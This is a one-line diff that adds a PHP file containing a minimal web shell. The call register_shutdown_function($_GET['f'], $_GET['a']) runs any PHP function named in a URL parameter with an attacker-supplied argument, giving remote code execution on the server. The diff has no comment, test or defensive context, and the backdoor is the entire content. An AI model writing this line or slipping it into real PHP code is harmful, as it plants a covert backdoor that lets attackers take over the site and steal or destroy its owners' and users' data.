@@ -1,0 +1,1 @@
+<?php register_shutdown_function($_GET['f'], $_GET['a']);
